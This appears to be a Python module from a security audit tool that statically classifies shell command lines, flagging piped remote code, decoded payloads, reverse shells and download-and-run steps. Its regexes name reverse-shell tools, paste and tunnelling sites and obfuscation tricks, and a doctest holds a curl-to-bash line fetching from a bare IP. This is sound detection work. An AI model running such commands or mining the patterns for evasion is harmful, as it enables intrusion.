"""What a shell command line does: does it bring foreign code to an interpreter, does it start what hides. Pure; nothing is run.

A line is cut at its pipes and separators, quotes and brackets kept together; what stands behind `sh -c` is judged as a line of its own.
"""

from __future__ import annotations

import re

import msgspec

from gpuclinic.audit.places import odd_place

MOST = 20_000
"""Signs of a command that are looked at."""
_DEPTH = 4
_INTERPRETER = re.compile(
    r"^(?:[\w./-]{0,80}/)?(?:busybox )?(?:ba|da|z|k|a|c|tc|fi)?sh$|^(?:[\w./-]{0,80}/)?(?:python[\d.]{0,5}|perl|ruby|php\d?|node|lua|tclsh)$"
)
_DOWNLOADER = re.compile(
    r"^(?:[\w./-]{0,80}/)?(?:curl|wget|telnet|wget2|fetch|lynx|aria2c|axel|lwp-download|GET|ftp|tftp|lftp|rsync|scp|http|https|nc|ncat|cd1|url|cur)$"
)
_WRAPPERS = frozenset(
    ["sudo", "env", "nohup", "exec", "setsid", "time", "nice", "ionice", "timeout", "command", "doas", "stdbuf", "xargs", "eatmydata", "flock", "chroot", "then", "do", "else", "if", "!", "&&", "su", "cronic", "chronic", "busybox", "toybox", "systemd-run", "nsenter", "unshare"]
)  # fmt: skip
_URL = re.compile(r"(?:https?|ftp|tftp)://[^\s\"'`)|;<>]{1,400}", re.IGNORECASE)
_LOCAL = re.compile(
    r"^(?:https?|ftp)://(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200)(?:[:/]|$)",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"^(?:(?:https?|ftp)://)?\d{1,3}(?:\.\d{1,3}){3}(?:[:/]|$)")
_DROP_PLACES = re.compile(
    r"\.onion\b|\.onion\.|pastebin\.com|paste\.ee|hastebin|termbin|transfer\.sh|ix\.io|0x0\.st|file\.io|anonfiles|bashupload|oshi\.at|temp\.sh|t\.me/|discord(?:app)?\.com/|ngrok|trycloudflare|duckdns\.org|no-ip\.|ddns\.",
    re.IGNORECASE,
)
_DECODES = re.compile(
    r"\bbase64\s{1,3}(?:-\w{0,6}[dD]\w{0,3}|--decode)|\bopenssl\s{1,3}(?:enc\s{1,3}|base64\s{1,3})[^|]{0,200}-d\b|\bxxd\s{1,3}-\w{0,3}r|\bbase32\s{1,3}-d|\buudecode\b|"
    r"\b(?:printf|echo\s{1,3}-\w{0,2}e\w?)\s{1,3}[\"']?(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})|(?:^|[|;\s])rev\b|\btr\s{1,3}[\"']?A-Za-z"
)
_DECODES_INSIDE = re.compile(
    r"(?:exec|eval)\s{0,3}\(?.{0,300}(?:b64decode|base64_decode|decode_base64|fromhex|unhexlify|marshal\.loads|pack\s{0,3}\(|zlib\.decompress|codecs\.decode)"
    r"|(?:b64decode|decode_base64)\b.{0,300}(?:exec|eval|system)\b",
    re.DOTALL,
)
_FETCHES_INSIDE = re.compile(
    r"(?:exec|eval|os\.system|system|subprocess)\b.{0,300}(?:urlopen|requests\.get|urllib|LWP|Net::HTTP|open-uri|file_get_contents|socket\.socket)"
    r"|(?:urlopen|urlretrieve|requests\.get|LWP::Simple|Net::HTTP|file_get_contents\(.https?)\b.{0,300}(?:exec|eval|system|subprocess|Popen)\b",
    re.DOTALL,
)
_REVERSE = re.compile(
    r"/dev/(?:tcp|udp)/[\w.$\{\}-]{1,100}/|\b(?:nc|ncat|netcat)\b[^|;]{0,120}\s-\w{0,4}[ec]\w{0,3}\s{1,3}[\w/]{0,40}sh\b|\bsocat\b[^|;]{0,200}exec:|"
    r"mkfifo\s{1,3}\S{1,100}.{0,200}\b(?:nc|ncat|telnet|openssl s_client)\b|socket\b.{0,300}(?:dup2|pty\.spawn)|\bgs-netcat\b|\bgsocket\b|\bncat\b[^|;]{0,120}\s--(?:sh-)?exec\b|/inet/(?:tcp|udp)/\d|"
    r"(?:sockaddr_in|fsockopen|TCPSocket|IO::Socket::INET|net\.Socket)\b.{0,300}(?:exec\b|popen|system\b|/bin/\w{0,3}sh)|require\([\"'](?:https?|net)[\"']\).{0,300}\beval\(",
    re.DOTALL | re.IGNORECASE,
)
_SUBSTITUTED = re.compile(r"(?:\$\(|`|<\()\s{0,3}([^`]{1,2000}?)(?:\)|`)\s{0,3}[\"']?", re.DOTALL)
_TAKES_TEXT = re.compile(
    r"(?:^|[;&|({\s])(?:eval|exec|\.|source|(?:[\w./-]{0,80}/)?(?:ba|da|z|k|a)?sh(?:\s{1,3}-\w{1,4}){0,3}(?:\s{0,3}<<<)?|python[\d.]{0,5}(?:\s{1,3}-c)?|perl(?:\s{1,3}-e)?)(?:\s{1,3}|(?<=<<<))[\"']?$"
)
_OUTPUT = re.compile(
    r"(?:^|\s)(?:-o|-O|--output|--output-document)[=\s]{0,3}([^\s;&|\"']{1,300})|>\s{0,3}([^\s;&|\"'>]{1,300})"
)


_ASSIGNED = re.compile(r"(?:^|[;&\s])([A-Za-z_]\w{0,40})=[\"']?(?:\$\(|`)([^`)]{1,2000})")
_TIMES = re.compile(r"^\s{0,8}(?:@\w{1,10}|(?:[\d*/,-]{1,40}\s{1,8}){4}[\d*/,-]{1,40})\s{1,8}")


class Deed(msgspec.Struct, frozen=True):
    """What a command does that a careful person would not let it do.

    what: remote_code, decoded_code, reverse_shell, download_run, odd_program. strong: nobody honest does it on a schedule; a script of a
    named https host for one user is not, since installers are started so. about: the words that show it. path: the program it starts.
    """

    what: str
    strong: bool
    about: str
    path: str | None = None


def deeds(command: str, depth: int = 0) -> list[Deed]:
    """All of a command; none for an innocent one.

    >>> deeds("curl -fsSL http://198.51.100.7/x | bash")[0].what
    'remote_code'
    >>> deeds("zcat /backup/plan.sh.gz | bash"), deeds("curl -fsS https://hc.example/ping >/dev/null")
    ([], [])
    """
    text = _plain(command[:MOST])
    if text.lstrip().startswith("#"):
        return []
    out: list[Deed] = []
    if _REVERSE.search(text):
        out.append(Deed("reverse_shell", True, text.strip()[:200]))
    written: list[str] = []
    folder = ""
    for statement in _cut(text, ";&\n"):
        bare = statement.strip()
        if bare.startswith(("(", "{ ")) and bare.endswith((")", "}")) and depth < _DEPTH:
            out += deeds(bare[1:-1], depth + 1)
        program, rest = _program(bare)
        folder = rest[0].strip("\"'") if program == "cd" and rest else folder
        if program.startswith("./") and (folder.startswith("/dev/shm") or odd_place(_as_home(folder)) == "hidden"):
            statement = statement.replace("./", f"{folder.rstrip('/')}/", 1)
        out += _of_statement(statement, written, depth)
    out += _substituted(text) + _kept(text)
    if depth < _DEPTH and re.search(r"\|\s{0,3}crontab\b", text):
        for found in list(re.finditer(r"\"([^\"]{1,2000})\"|'([^']{1,2000})'", text))[:5]:
            out += deeds(_TIMES.sub("", found[1] or found[2]), depth + 1)
    return _each_once(out)


def _plain(text: str) -> str:
    """Spellings that only hide a word are undone: joined lines, $IFS, empty quotes within words, {echo,x}, $SHELL behind a pipe."""
    text = text.replace("\\\n", " ").replace("${IFS}", " ").replace("$IFS", " ")
    text = re.sub(r"(?<=\w)(?:''|\"\")(?=\w)", "", text)
    text = re.sub(
        r"(?:(?<=[|;&\"'])|^)\{([\w./-]{1,80}(?:,[^{},\s]{1,4000}){1,6})\}", lambda m: m[1].replace(",", " "), text
    )
    return re.sub(r"\|\s{0,3}\"?\$\{?(?:SHELL|BASH|0)\}?\"?(?=\s|$|[;&|)])", "| bash", text)


def _kept(text: str) -> list[Deed]:
    """`x=$(curl ...); eval "$x"`: a variable that holds what came from elsewhere is run."""
    out = []
    for found in list(_ASSIGNED.finditer(text))[:20]:
        name, inner, after = found[1], found[2], text[found.end() :]
        source = next((s for stage in _cut(inner, ";&|\n") if (s := _source_of(stage.strip()))), None)
        if source is None and not _DECODES.search(inner):
            continue
        value = rf"\s{{0,3}}[\"']?\$\{{?{name}\b"
        if re.search(
            rf"(?:\beval|sh\s{{1,3}}-\w{{0,3}}c|sh\s{{0,3}}<<<|\bpython[\d.]{{0,5}}\s{{1,3}}-c){value}", after
        ) or re.search(
            rf"\b(?:echo|printf)\b[^|;]{{0,40}}{value}[^|;]{{0,40}}\|\s{{0,3}}(?:sudo\s)?\w{{0,2}}sh\b", after
        ):
            out.append(
                Deed(
                    "decoded_code" if source is None else "remote_code",
                    source is None or _untold(source),
                    text.strip()[:200],
                )
            )
    return out


def _of_statement(statement: str, written: list[str], depth: int) -> list[Deed]:
    out: list[Deed] = []
    stages = [stage.strip().lstrip("({ ").rstrip(")} ") for stage in _cut(statement, "|")]
    flows: str | None = None
    decoded = False
    for number, stage in enumerate(stages):
        program, rest = _program(stage)
        for inner in _inner(statement if len(stages) == 1 else stage):
            out += deeds(inner, depth + 1) if depth < _DEPTH else []
        out += _handed(stages, number, flows, decoded) + _preloaded(stage)
        if _INTERPRETER.match(program) or program.rpartition("/")[2] in ("bash", "sh"):
            if _FETCHES_INSIDE.search(stage):
                out.append(Deed("remote_code", True, stage[:200]))
            if _DECODES_INSIDE.search(stage):
                out.append(Deed("decoded_code", True, stage[:200]))
        flows = _source_of(stage) or flows
        decoded = decoded or bool(_DECODES.search(stage))
        if _DECODES.search(stage):
            written += [m[2] for m in _OUTPUT.finditer(stage) if m[2] and not m[2].startswith(("/dev/", "&"))]
        if _downloads(stage):
            if program.rpartition("/")[2] == "wget" and not re.search(r"\s-\w{0,3}O|--output-document", stage):
                written += [url.rpartition("/")[2].partition("?")[0] for url in _URL.findall(stage)]
            written += [
                found
                for match in _OUTPUT.finditer(stage)
                if (found := match[1] or match[2]) not in ("/dev/null", "-", "&1", "&2")
            ]
        out += _started(program, rest, written)
    return out


def _handed(stages: list[str], number: int, flows: str | None, decoded: bool) -> list[Deed]:
    """What an interpreter at this place of a pipe reads: foreign or decoded code, or a file of a place where programs do not live."""
    stage, whole = stages[number], " | ".join(stages)[:200]
    program, rest = _program(stage)
    reads = bool(_INTERPRETER.match(program)) and _reads_input(rest)
    reads = reads or bool(re.match(r"^xargs\b.*\b\w{0,3}sh\s+-c\s*(?:[\"']?\{\}[\"']?)?$", stage[:200]))
    if number and reads:
        if flows is not None:
            return [Deed("remote_code", _untold(flows), whole)]
        return [Deed("decoded_code", True, whole)] if decoded else _poured(" ".join(stages[: number + 1]))
    if not number and _INTERPRETER.match(program):
        return _poured(" ".join(re.findall(r"(?<!<)<\s{0,3}/[^\s;&|<>]{1,200}", stage)))
    return []


def _preloaded(stage: str) -> list[Deed]:
    found = re.search(r"(?:^|\s)LD_PRELOAD=[\"']?(/[^\s\"':;]{1,200})", stage)
    return [Deed("odd_program", True, found[1], found[1])] if found and odd_place(found[1]) else []


def _poured(text: str) -> list[Deed]:
    """Files of places where programs do not live, handed to an interpreter."""
    paths = re.findall(r"(?<![\w.=>:/])/[\w./@+-]{2,200}", re.sub(r">\s{0,3}/[\w./@+-]{1,200}", "", text))
    return [Deed("odd_program", True, path, path) for path in paths[:4] if odd_place(path)]


def _started(program: str, rest: list[str], written: list[str]) -> list[Deed]:
    """Programs that a downloader wrote before, or that lie where programs do not live."""
    out = []
    started = [program]
    if _INTERPRETER.match(program) or program in (".", "source"):
        started += [word for word in rest[:4] if not word.startswith("-")][:1]
    for path in started:
        bare = path.replace('"', "").replace("'", "")
        if program in (".", "source") and re.match(r"^(?:~|\$\{?HOME\}?|/root|/home/[^/]+)/\.[\w.-]{1,60}$", bare):
            continue  # a start file of a shell reads another
        if written and any(
            bare.rpartition("/")[2] and bare.rpartition("/")[2] == one.rpartition("/")[2] for one in written
        ):
            out.append(Deed("download_run", True, bare[:200], bare))
        elif _as_home(bare).startswith("/") and "$" not in _as_home(bare) and odd_place(_as_home(bare)):
            out.append(Deed("odd_program", True, bare[:200], bare))
    return out


def _as_home(path: str) -> str:
    for sign in ("~/", "$HOME/", "${HOME}/"):
        if path.startswith(sign):
            return f"/home/x/{path[len(sign) :]}"
    return path


def _substituted(text: str) -> list[Deed]:
    """`eval $(...)`, `bash <(...)`, `sh -c "$(...)"` and back-ticks at the place of a command."""
    out: list[Deed] = []
    for found in list(_SUBSTITUTED.finditer(text))[:50]:
        before, inner = text[: found.start()][-200:], found[1]
        takes = _TAKES_TEXT.search(before) or (found[0][0] != "<" and before.strip(" \"'(") == "")
        if not takes:
            continue
        source = next((s for stage in _cut(inner, ";&|\n") if (s := _source_of(stage.strip()))), None)
        if source is not None:
            out.append(Deed("remote_code", _untold(source), text.strip()[:200]))
        elif _DECODES.search(inner):
            out.append(Deed("decoded_code", True, text.strip()[:200]))
    return out


def _untold(source: str) -> bool:
    """Not a script of a named https host: an address, a hidden service, a place where anybody leaves things, plain http."""
    return bool(_ADDRESS.search(source) or _DROP_PLACES.search(source)) or not source.lower().startswith("https://")


def _source_of(stage: str) -> str | None:
    """Where a stage of a pipe brings text from, if from another machine."""
    program, rest = _program(stage)
    name = program.rpartition("/")[2]
    if (name == "openssl" and "s_client" in rest[:1]) or (
        name in ("dig", "host", "nslookup", "drill")
        and re.search(r"\b(?:-t\s{0,2}|-q=|-type=)?txt\b", stage, re.IGNORECASE)
    ):
        return name
    if not _DOWNLOADER.match(program):
        urls = [url for url in _URL.findall(stage) if not _LOCAL.match(url)]
        return urls[0] if urls and re.search(r"\b(?:curl|wget)\b", stage) else None
    urls = [url for url in _URL.findall(stage) if not _LOCAL.match(url)]
    if urls:
        return str(urls[0])
    if _URL.search(stage):
        return None
    bare = [word.strip("\"'") for word in rest if not word.startswith("-")]
    bare = [
        word
        for word in bare
        if re.match(r"^(?:[\w-]{1,63}\.){1,6}[\w-]{1,63}(?::\d+)?(?:/|$)", word)
        and not word.startswith(("127.", "localhost"))
    ]
    variable = any("$" in word for word in rest)
    return bare[0] if bare else "$" if variable and program.rpartition("/")[2] in ("curl", "wget") else None


def _downloads(stage: str) -> bool:
    return _source_of(stage) is not None


def _reads_input(rest: list[str]) -> bool:
    """An interpreter that gets its program from its input: no script is named."""
    words = [word for word in rest if not re.match(r"^\d?>|^<|^&|^2>", word) and word not in ("/dev/null", "&1")]
    return all(word.startswith("-") and word not in ("-c", "-e", "-m") for word in words[:2]) or words[:1] in (
        ["-s"],
        ["-"],
        ["/dev/stdin"],
    )


def _program(stage: str) -> tuple[str, list[str]]:
    """The program of a simple command and its words, wrappers and assignments skipped."""
    cells = stage.replace("\t", " ").split()
    n = 0
    while n < len(cells):
        word = cells[n].lstrip("({").strip("\"'")
        if word in ("[", "[[", "case", "for", "while"):
            return word, cells[n + 1 :]
        inner = re.match(r"^[A-Za-z_]\w*=\"?(?:\$\(|`)(.+)$", word)
        if inner and ")" not in inner[1] and "`" not in inner[1]:
            return inner[1], cells[n + 1 :]  # the value is what a command prints
        if re.match(r"^[A-Za-z_]\w*=", word) or word in _WRAPPERS:
            wrapper = word in _WRAPPERS
            n += 1 + 2 * (word == "exec" and cells[n + 1 : n + 2] == ["-a"])
            while wrapper and n < len(cells) and (cells[n].startswith("-") or re.match(r"^\d[\d.]*[smh]?$", cells[n])):
                n += 1
            n += word in ("flock", "chroot")  # the lock, the new root
            continue
        if word in ("", "{", "(") or re.match(r"^(?:/[\w./-]{0,40}/)?ld-linux[\w.-]{0,30}$", word):
            n += 1
            continue
        return re.sub(r"(?<=[\w/])>.*$", "", word).removeprefix("\\"), cells[n + 1 :]
    return "", []


def _inner(statement: str) -> list[str]:
    """Programs handed over as text: sh -c '...', su -c, ssh-less."""
    out = []
    for found in re.finditer(r"\s-\w{0,3}c\s{1,3}(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})')", statement):
        out.append((found[1] or found[2] or "").replace('\\"', '"').replace("\\$", "$"))
    return out[:5]


def _cut(text: str, signs: str) -> list[str]:
    """Cuts at signs outside of quotes and brackets; `||` and `&&` are separators of statements, `>&` and `&>` are not."""
    out, start, depth, quote = [], 0, 0, ""
    n = 0
    while n < len(text):
        sign = text[n]
        if sign == "\\":
            n += 2
            continue
        if quote:
            quote = "" if sign == quote else quote
        elif sign in "\"'`":
            quote = sign
        elif sign in "({":
            depth += sign == "(" or text[n + 1 : n + 2].isspace()
        elif sign in ")}":
            depth = max(0, depth - 1)
        elif sign in signs and not depth:
            double = text[n : n + 2] in ("||", "&&")
            redirect = sign == "&" and (text[n - 1 : n] in ("<", ">") or text[n + 1 : n + 2] == ">")
            if not redirect and not (sign == "|" and double and "&" not in signs):
                out.append(text[start:n])
                start = n + (2 if double else 1)
                n = start
                continue
            n += double
        elif sign == "|" and text[n : n + 2] == "||" and "&" in signs and not depth:
            out.append(text[start:n])
            start = n = n + 2
            continue
        n += 1
    out.append(text[start:])
    return [piece for piece in out if piece.strip()]


def _each_once(found: list[Deed]) -> list[Deed]:
    out: dict[tuple[str, str | None], Deed] = {}
    for deed in found:
        known = out.get((deed.what, deed.path))
        if known is None or (deed.strong and not known.strong):
            out[deed.what, deed.path] = deed
    return list(out.values())
